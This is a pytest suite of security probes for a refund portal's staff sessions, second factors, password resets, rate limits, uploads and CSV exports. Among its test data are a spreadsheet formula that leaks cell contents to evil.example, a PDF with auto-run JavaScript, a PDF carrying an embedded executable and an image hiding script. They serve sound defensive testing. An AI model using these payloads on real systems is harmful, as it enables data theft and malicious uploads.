"""The probes of issue 17, repeated: each asserts what an attacker or the owner would notice."""

from __future__ import annotations

import io
import re
import threading
import time

import pyotp
import pytest
import time_machine
from pypdf import PdfWriter
from sqlalchemy import func, select

from portal.accounts.models import PasswordReset, SecurityEvent, StaffSession, StaffUser, TotpFactor
from portal.core.spreadsheet import neutralise
from portal.core.vocabulary import StaffRole
from portal.orders.models import MagicLinkRequest
from portal.refunds.models import RefundRequest
from tests.conftest import csrf_token
from tests.journey_helpers import (
    file_request,
    latest_request,
    lookup,
    outbox,
    pdf_bytes,
    png_bytes,
    post_multipart,
    refund_form,
)
from tests.staff_helpers import PASSWORD, make_staff, sign_in, staff_post

pytestmark = pytest.mark.usefixtures("frozen")


def _cookie(client) -> str:
    return client.get_cookie("session").value


def _copy(app, cookie: str):
    other = app.test_client()
    other.set_cookie("session", cookie)
    return other


# -- sessions -------------------------------------------------------------------------------------


def test_a_cookie_copied_before_signing_out_reads_nothing_afterwards(app, client, orders):
    make_staff(orders)
    sign_in(client, "agent@example.com")
    stolen = _copy(app, _cookie(client))
    assert stolen.get("/staff/queue").status_code == 200
    staff_post(client, "/staff/logout", "/staff/queue")
    assert stolen.get("/staff/queue").status_code == 302  # to the sign-in page
    assert stolen.get("/staff/queue").headers["Location"].startswith("/staff/login")


@pytest.mark.parametrize("how", ["everywhere", "password", "role", "deactivation"])
def test_every_copy_of_every_session_ends(app, orders, how):
    make_staff(orders, "admin@example.com", StaffRole.ADMIN)
    make_staff(orders)
    agent, other_device = app.test_client(), app.test_client()
    sign_in(agent, "agent@example.com")
    sign_in(other_device, "agent@example.com")
    copy = _copy(app, _cookie(agent))
    if how == "everywhere":
        staff_post(agent, "/staff/security/sign-out-everywhere", "/staff/security")
    elif how == "password":
        answer = staff_post(
            agent,
            "/staff/security/password",
            "/staff/security",
            current=PASSWORD,
            password="violet kettle harbour 1987",
        )
        assert answer.status_code == 303
    else:
        admin = app.test_client()
        sign_in(admin, "admin@example.com")
        agent_id = re.search(r"/staff/users/(\d+)/role", admin.get("/staff/users").get_data(as_text=True)).group(1)
        if how == "role":
            staff_post(admin, f"/staff/users/{agent_id}/role", "/staff/users", role="marketing")
        else:
            staff_post(admin, f"/staff/users/{agent_id}/active", "/staff/users")
    assert other_device.get("/staff/queue").status_code == 302
    assert copy.get("/staff/queue").status_code == 302
    if how == "password":  # the person who changed it goes on, in a new session
        assert agent.get("/staff/security").status_code == 200


def test_a_session_ends_12_hours_after_sign_in_however_active(app, client, orders):
    make_staff(orders)
    with time_machine.travel("2026-11-22T08:00:00Z", tick=False) as clock:
        sign_in(client, "agent@example.com")
        for _ in range(24):  # busy all day, never idle for 30 minutes: 11 h 36 min
            clock.shift(1800 - 60)
            assert client.get("/staff/queue").status_code == 200
        clock.shift(1800 - 60)  # 12 h 5 min after signing in
        assert client.get("/staff/queue").status_code == 302


def test_signing_in_renews_the_session(app, client, orders):
    make_staff(orders)
    client.get("/staff/login")
    before = _cookie(client)
    sign_in(client, "agent@example.com")
    assert _cookie(client) != before
    assert _copy(app, before).get("/staff/queue").status_code == 302
    assert orders.scalar(select(func.count()).select_from(StaffSession)) == 1


# -- second factors -------------------------------------------------------------------------------


def test_admins_must_add_a_second_factor_and_then_sign_in_with_it(make_app, db_session):
    app = make_app(STAFF_MFA="admins")
    make_staff(db_session, "admin@example.com", StaffRole.ADMIN)
    admin, password_only = app.test_client(), app.test_client()
    with time_machine.travel("2026-11-22T12:00:05Z", tick=False) as clock:
        assert sign_in(admin, "admin@example.com").status_code == 302
        sign_in(password_only, "admin@example.com")
        assert admin.get("/staff/users").headers["Location"] == "/staff/security"  # nothing else until enrolled
        staff_post(admin, "/staff/security/totp", "/staff/security")
        secret = db_session.scalar(select(TotpFactor.secret))
        totp = pyotp.TOTP(secret)
        assert (
            staff_post(
                admin,
                "/staff/security/totp/confirm",
                "/staff/security",
                code="000000" if totp.now() != "000000" else "111111",
            ).status_code
            == 422
        )
        assert staff_post(admin, "/staff/security/totp/confirm", "/staff/security", code=totp.now()).status_code == 303
        page = admin.get("/staff/security").get_data(as_text=True)
        codes = re.findall(r"<code>([0-9a-f]{5}-[0-9a-f]{5})</code>", page)
        assert len(codes) == 10
        assert admin.get("/staff/users").status_code == 200
        assert password_only.get("/staff/security").status_code == 302  # ended when the factor arrived

        fresh = app.test_client()
        assert sign_in(fresh, "admin@example.com").headers["Location"] == "/staff/login/second-factor"
        assert fresh.get("/staff/users").status_code == 302  # the password alone opens nothing
        used = totp.now()  # the code the enrolment consumed is not accepted twice
        refused = staff_post(fresh, "/staff/login/second-factor", "/staff/login/second-factor", code=used)
        assert refused.status_code == 422 and "used already" in refused.get_data(as_text=True)
        clock.shift(30)
        assert (
            staff_post(fresh, "/staff/login/second-factor", "/staff/login/second-factor", code=totp.now()).status_code
            == 302
        )
        assert fresh.get("/staff/users").status_code == 200

        recovered = app.test_client()
        sign_in(recovered, "admin@example.com")
        assert (
            staff_post(
                recovered, "/staff/login/second-factor", "/staff/login/second-factor", code=codes[0].upper()
            ).status_code
            == 302
        )
        again = app.test_client()
        sign_in(again, "admin@example.com")
        assert (
            staff_post(again, "/staff/login/second-factor", "/staff/login/second-factor", code=codes[0]).status_code
            == 422
        )
    kinds = [e.kind for e in db_session.scalars(select(SecurityEvent).order_by(SecurityEvent.id))]
    assert "mfa_added" in kinds and "recovery_code_used" in kinds and "mfa_failed" in kinds


def test_required_mfa_covers_agents_too(make_app, db_session):
    app = make_app(STAFF_MFA="required")
    make_staff(db_session)
    agent = app.test_client()
    sign_in(agent, "agent@example.com")
    assert agent.get("/staff/queue").headers["Location"] == "/staff/security"


# -- passwords ------------------------------------------------------------------------------------


def test_a_password_reset_link_works_once_for_30_minutes_and_refuses_breached_passwords(app, orders):
    make_staff(orders)
    other = app.test_client()
    sign_in(other, "agent@example.com")
    browser = app.test_client()
    with time_machine.travel("2026-11-22T12:00:00Z", tick=False) as clock:
        for address in ("agent@example.com", "nobody@example.com"):
            answer = browser.post(
                "/staff/forgot", data={"csrf_token": csrf_token(browser, "/staff/forgot"), "email": address}
            )
            assert answer.status_code == 303
        [message] = outbox(orders, "staff_password_reset")
        link = message.variables["link"].removeprefix("http://portal.test")
        token = link.rsplit("/", 1)[1]
        assert orders.scalar(select(PasswordReset.token_hash)) != token  # stored hashed
        assert browser.get(link).headers["Location"] == "/staff/reset"
        weak = browser.post(
            "/staff/reset", data={"csrf_token": csrf_token(browser, "/staff/reset"), "password": "Password123!"}
        )
        assert weak.status_code == 422 and "breached" in weak.get_data(as_text=True)
        done = browser.post(
            "/staff/reset",
            data={"csrf_token": csrf_token(browser, "/staff/reset"), "password": "violet kettle harbour 1987"},
        )
        assert done.status_code == 303
        assert other.get("/staff/queue").status_code == 302  # the old sessions ended
        assert sign_in(app.test_client(), "agent@example.com", "violet kettle harbour 1987").status_code == 302
        replay = app.test_client()
        replay.get(link)
        assert "expired or was used" in replay.get("/staff/reset").get_data(as_text=True)

        browser.post(
            "/staff/forgot", data={"csrf_token": csrf_token(browser, "/staff/forgot"), "email": "agent@example.com"}
        )
        late = outbox(orders, "staff_password_reset")[-1].variables["link"].removeprefix("http://portal.test")
        clock.shift(31 * 60)
        slow = app.test_client()
        slow.get(late)
        assert "expired or was used" in slow.get("/staff/reset").get_data(as_text=True)


# -- limits ---------------------------------------------------------------------------------------


def test_a_wrong_password_flood_never_locks_the_owner_out(app, orders):
    make_staff(orders)
    attacker = app.test_client()
    answers = []
    for _ in range(20):
        token = csrf_token(attacker, "/staff/login")
        answers.append(
            attacker.post(
                "/staff/login",
                data={"csrf_token": token, "email": "agent@example.com", "password": "wrong"},
                environ_base={"REMOTE_ADDR": "203.0.113.9"},
            ).status_code
        )
    assert 429 in answers  # the attacker's client is slowed to a stop
    owner = app.test_client()
    token = csrf_token(owner, "/staff/login")
    started = time.monotonic()
    answer = owner.post(
        "/staff/login",
        data={"csrf_token": token, "email": "agent@example.com", "password": PASSWORD},
        environ_base={"REMOTE_ADDR": "198.51.100.7"},
    )
    assert answer.status_code == 302 and time.monotonic() - started < 3


def test_a_stranger_cannot_use_up_a_customers_lookups(app, orders):
    stranger, owner = app.test_client(), app.test_client()
    for attempt in range(12):
        lookup(stranger, "ORD-10001", f"guess{attempt}@example.com", REMOTE_ADDR="203.0.113.9")
    assert lookup(stranger, "ORD-10001", "x@example.com").status_code == 429
    # Flask's test client takes REMOTE_ADDR from environ_base; the helper passes headers, so use a client default.
    owner.environ_base["REMOTE_ADDR"] = "198.51.100.7"
    assert lookup(owner, "ORD-10001", "alice.m@example.com").status_code == 302


def test_filing_posts_are_rate_limited_per_client(make_app, db_session):
    from tests.journey_helpers import import_samples

    app = make_app(FILING_RATE_LIMIT="3 per minute")
    import_samples(db_session)
    customer = app.test_client()
    lookup(customer, "ORD-10001", "alice.m@example.com")
    form = refund_form(customer, "ORD-10001")
    answers = [
        post_multipart(
            customer, "/orders/ORD-10001/refund", {**form, "amount_choice": "partial", "partial_amount": "abc"}, {}
        ).status_code
        for _ in range(4)
    ]
    assert answers == [422, 422, 422, 429]


# -- uploads --------------------------------------------------------------------------------------


def _refused_form(client, files, **fields):
    """A form refused for a bad amount, so the documents are only staged."""
    form = {
        **refund_form(client, "ORD-10001"),
        "amount_choice": "partial",
        "partial_amount": "abc",
        "details": "Kept as typed",
        **fields,
    }
    return post_multipart(client, "/orders/ORD-10001/refund", form, {"documents": files})


def test_staged_files_expire_and_are_swept(app, client, orders, runner):
    # Staged files wait in the storage (a folder, or S3 in the S3 run) under staging/<session id>/.
    store = app.extensions["storage"]
    lookup(client, "ORD-10001", "alice.m@example.com")
    assert _refused_form(client, [("a.png", png_bytes())]).status_code == 422
    staged = list(store.walk("staging/"))
    assert len(staged) == 1 and re.fullmatch(r"staging/[0-9a-f]{32}/[0-9a-f]{32}", staged[0])
    assert "Deleted 0" in runner.invoke(args=["uploads", "sweep"]).output
    # An hour and a minute after the file was written (its mtime, or S3's LastModified).
    with time_machine.travel(store.modified(staged[0]) + 61 * 60, tick=False):
        assert "Deleted 1" in runner.invoke(args=["uploads", "sweep"]).output
    assert not store.exists(staged[0])
    page = client.get("/orders/ORD-10001/refund").get_data(as_text=True)
    assert "a.png" not in page  # the form no longer offers what was swept

    # The worker's round sweeps too.
    assert _refused_form(client, [("b.png", png_bytes())]).status_code == 422
    [again] = list(store.walk("staging/"))
    with time_machine.travel(store.modified(again) + 61 * 60, tick=False):
        assert "deleted 1 expired staged upload(s)" in runner.invoke(args=["outbox", "send"]).output
    assert not store.exists(again)


def test_replaying_one_session_meets_its_staging_quota(make_app, db_session):
    from tests.journey_helpers import import_samples

    app = make_app(STAGING_QUOTA_BYTES=300_000)
    import_samples(db_session)
    client = app.test_client()
    lookup(client, "ORD-10001", "alice.m@example.com")
    cookie = _cookie(client)
    big = _noise_png(200)
    messages = []
    for _ in range(8):
        replay = _copy(app, cookie)  # the same session each time, as a replaying script would
        messages.append(_refused_form(replay, [("big.png", big)]).get_data(as_text=True))
    assert sum(entry.size for entry in app.extensions["storage"].listing("staging/")) <= 300_000
    assert "more documents than we keep" in messages[-1]


def _noise_png(side: int) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.effect_noise((side, side), 80).convert("RGB").save(buffer, "PNG")
    return buffer.getvalue()


def _open_action_js(writer) -> None:
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert('hi');")}
    )


def _pdf_with(action) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    action(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.mark.parametrize(
    "name,content",
    [
        ("script.pdf", lambda: _pdf_with(_open_action_js)),
        ("attached.pdf", lambda: _pdf_with(lambda w: w.add_attachment("evil.exe", b"MZ\x90"))),
        ("photo.jpg", lambda: _jpeg() + b"<html><script>alert(1)</script></html>PK\x03\x04zip"),
        ("shot.png", lambda: png_bytes() + b"PK\x03\x04appended"),
        # No cross-reference table: judged by its bytes, the script is still found.
        ("plain.pdf", lambda: PLAIN_PDF.replace(b"/Type/Catalog", b"/Type/Catalog/OpenAction<</S/JavaScript/JS(x)>>")),
    ],
)
def test_active_content_is_refused_with_what_was_typed_kept(client, orders, name, content):
    lookup(client, "ORD-10001", "alice.m@example.com")
    answer = _refused_form(client, [(name, content())])
    page = answer.get_data(as_text=True)
    assert answer.status_code == 422 and "Kept as typed" in page
    assert "active content" in page or "hidden after the end of the image" in page


def _jpeg() -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (20, 20), "white").save(buffer, "JPEG")
    return buffer.getvalue()


# A hand-made PDF without a cross-reference table, as mail attachments often are; viewers show it.
PLAIN_PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>"
    b"endobj 3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)


def test_a_pdf_without_a_cross_reference_table_is_judged_by_its_bytes(client, orders):
    lookup(client, "ORD-10001", "alice.m@example.com")
    # One whose names could hide in an encoded stream cannot be judged that way: refused as damaged.
    hidden = (
        PLAIN_PDF.replace(b"/MediaBox[0 0 200 200]", b"/MediaBox[0 0 200 200]/Contents 4 0 R")
        + b"4 0 obj<</Filter/FlateDecode/Length 3>>stream\nxyz\nendstream endobj\n%%EOF\n"
    )
    refused = _refused_form(client, [("hidden.pdf", hidden)])
    assert refused.status_code == 422 and "may be damaged" in refused.get_data(as_text=True)
    # The plain one lands, as a viewer would show it.
    answer = file_request(client, "ORD-10001", [("plain.pdf", PLAIN_PDF)])
    assert answer.status_code == 303


def test_clean_documents_still_pass(client, orders):
    lookup(client, "ORD-10001", "alice.m@example.com")
    answer = file_request(client, "ORD-10001", [("invoice.pdf", pdf_bytes()), ("photo.jpg", _jpeg())])
    assert answer.status_code == 303


def test_a_nul_in_a_file_name_is_answered_beside_the_form(client, orders):
    lookup(client, "ORD-10001", "alice.m@example.com")
    answer = _refused_form(client, [("inv\x00oice.png", png_bytes())], partial_amount="5")
    page = answer.get_data(as_text=True)
    assert answer.status_code == 422 and "Kept as typed" in page and "Rename the file" in page


def test_an_over_large_body_is_answered_beside_the_form(make_app, db_session):
    from tests.journey_helpers import import_samples

    app = make_app(MAX_CONTENT_LENGTH=200_000)
    import_samples(db_session)
    client = app.test_client()
    lookup(client, "ORD-10001", "alice.m@example.com")
    answer = _refused_form(client, [("a.png", png_bytes()), ("huge.png", _noise_png(300))], partial_amount="5")
    page = answer.get_data(as_text=True)
    assert answer.status_code == 422 and "Kept as typed" in page and "did not fit" in page


# -- CSV ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "cell", ['=HYPERLINK("http://evil.example/?leak="&A2,"Open")', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
)
def test_formula_cells_are_neutralised(cell):
    assert neutralise(cell) == "'" + cell


def test_the_refunds_export_neutralises_a_processor_reference(app, orders, runner):
    from tests.staff_helpers import approved_in_full

    agent, reference = approved_in_full(app, orders)
    page = f"/staff/requests/{reference}"
    staff_post(agent, f"{page}/process", page, reference='=HYPERLINK("http://evil.example","x")')
    output = runner.invoke(args=["refunds", "export", "--since", "2026-11-01"]).stdout
    assert output.startswith("\ufeff") and ",\"'=HYPERLINK(" in output


# -- filing races ---------------------------------------------------------------------------------


def test_twenty_concurrent_posts_of_one_form_make_one_request(make_app, db_session):
    from tests.journey_helpers import import_samples

    app = make_app(FILING_RATE_LIMIT="100 per minute")  # the race, not the limit, is on trial here
    import_samples(db_session)
    orders = db_session
    client = app.test_client()
    lookup(client, "ORD-10001", "alice.m@example.com")
    form = refund_form(client, "ORD-10001")
    cookie = _cookie(client)
    answers: list = []

    def post():
        answers.append(
            post_multipart(
                _copy(app, cookie), "/orders/ORD-10001/refund", form, {"documents": [("a.png", png_bytes())]}
            )
        )

    threads = [threading.Thread(target=post) for _ in range(20)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    assert {a.status_code for a in answers} <= {302, 303}  # never a 500
    assert len({a.headers["Location"] for a in answers}) == 1  # all on the one request
    assert orders.scalar(select(func.count()).select_from(RefundRequest)) == 1
    replay = post_multipart(_copy(app, cookie), "/orders/ORD-10001/refund", form, {})
    assert replay.status_code in (302, 303)  # a session whose files were filed replays without a 500


def test_a_submission_key_only_works_for_its_own_session_and_order(app, orders):
    alice, bob = app.test_client(), app.test_client()
    lookup(alice, "ORD-10001", "alice.m@example.com")
    lookup(bob, "ORD-10003", "bob.tanaka@example.org")
    alice_form = refund_form(alice, "ORD-10001")
    assert alice_form["submission_key"] != refund_form(alice, "ORD-10001")["submission_key"]  # random per form
    filed = post_multipart(alice, "/orders/ORD-10001/refund", alice_form, {})
    bob_form = {**refund_form(bob, "ORD-10003"), "submission_key": alice_form["submission_key"]}
    landed = post_multipart(bob, "/orders/ORD-10003/refund", bob_form, {})
    assert landed.status_code == 303 and landed.headers["Location"] != filed.headers["Location"]
    assert latest_request(orders).order.order_number == "ORD-10003"


# -- magic link -----------------------------------------------------------------------------------


def test_the_magic_link_request_does_the_same_for_any_address(client, orders):
    for address in ("alice.m@example.com", "nobody@example.com"):
        answer = client.post("/access-link", data={"csrf_token": csrf_token(client, "/"), "email": address})
        assert answer.status_code == 302
    assert orders.scalar(select(func.count()).select_from(MagicLinkRequest)) == 2
    assert outbox(orders) == []  # nothing decided inside the request


# -- orders import --------------------------------------------------------------------------------


def test_the_orders_import_stops_at_an_overlong_line(runner, tmp_path, data_dir):
    path = tmp_path / "huge.csv"
    with open(path, "w", encoding="utf-8") as f:
        f.write((data_dir / "orders.csv").read_text(encoding="utf-8").splitlines()[0] + "\n")
        f.write("x" * 5_000_000)
    result = runner.invoke(args=["orders", "import", str(path)])
    assert result.exit_code == 1 and "line 2" in result.output and "longer than 65536" in result.output


# -- the security log -----------------------------------------------------------------------------


def test_admins_read_and_export_the_security_log(app, orders):
    make_staff(orders, "admin@example.com", StaffRole.ADMIN)
    make_staff(orders)
    sign_in(app.test_client(), "agent@example.com", "wrong password here")
    admin = app.test_client()
    sign_in(admin, "admin@example.com")
    page = admin.get("/staff/security-log").get_data(as_text=True)
    assert "Sign-in failed" in page and "agent@example.com" in page and "Signed in" in page
    export = admin.get("/staff/security-log.csv")
    assert export.get_data(as_text=True).startswith("\ufefftime,event")
    agent = app.test_client()
    sign_in(agent, "agent@example.com")
    assert agent.get("/staff/security-log").status_code == 403


def test_a_token_made_on_the_command_line_is_in_the_security_log(app, orders, runner):
    make_staff(orders, "admin@example.com", StaffRole.ADMIN)
    make_staff(orders)
    made = runner.invoke(args=["staff", "token", "agent@example.com", "--name", "helpdesk"])
    assert made.exit_code == 0, made.output
    token = made.stdout.strip().splitlines()[-1]
    orders.expire_all()
    [entry] = orders.scalars(select(SecurityEvent).where(SecurityEvent.kind == "token_created")).all()
    agent = orders.scalar(select(StaffUser).where(StaffUser.email == "agent@example.com"))
    assert (entry.subject_id, entry.email, entry.actor_id) == (agent.id, "agent@example.com", None)
    assert entry.detail == f"helpdesk {token[:12]} (staff_api)" and token not in entry.detail
    admin = app.test_client()
    sign_in(admin, "admin@example.com")
    page = admin.get("/staff/security-log").get_data(as_text=True)
    assert "API token created" in page and "agent@example.com" in page and token not in page
    assert token not in admin.get("/staff/security-log.csv").get_data(as_text=True)


def _wait_page(response) -> tuple[int, str]:
    text = re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", response.get_data(as_text=True)))
    return int(response.headers["Retry-After"]), text


@pytest.mark.parametrize(
    "language,limit,says",
    [
        ("en", "2 per minute", "Please try again in {n} seconds."),
        ("nl", "2 per minute", "Probeer het over {n} seconden opnieuw."),
        ("zh", "2 per minute", "请在 {n} 秒后重试。"),
        ("en", "2 per hour", "Please try again in about {minutes} minutes."),
        ("nl", "2 per hour", "Probeer het over ongeveer {minutes} minuten opnieuw."),
        ("en", "2 per day", "Please try again in about {hours} hours."),
    ],
)
def test_the_429_page_says_the_wait_the_retry_after_header_gives(make_app, db_session, language, limit, says):
    import math

    app = make_app(LOOKUP_RATE_LIMIT=limit)
    client = app.test_client()
    client.get(f"/language/{language}?next=/")
    # A still clock: the page and the header count from the same instant. Two tries, then a third
    # 4 s later: a minute's limit frees up 57 s later.
    with time_machine.travel("2026-11-22T12:00:03Z", tick=False) as clock:
        answers = [lookup(client, "ORD-10001", f"guess{n}@example.com") for n in range(2)]
        clock.shift(4)
        answers.append(lookup(client, "ORD-10001", "guess2@example.com"))
    assert answers[2].status_code == 429
    seconds, text = _wait_page(answers[2])
    assert seconds == {"2 per minute": 57, "2 per hour": 3597, "2 per day": 86397}[limit]
    expected = says.format(n=seconds, minutes=math.ceil(seconds / 60), hours=math.ceil(seconds / 3600))
    assert expected in text, text
    assert "a few minutes" not in text and "enkele minuten" not in text
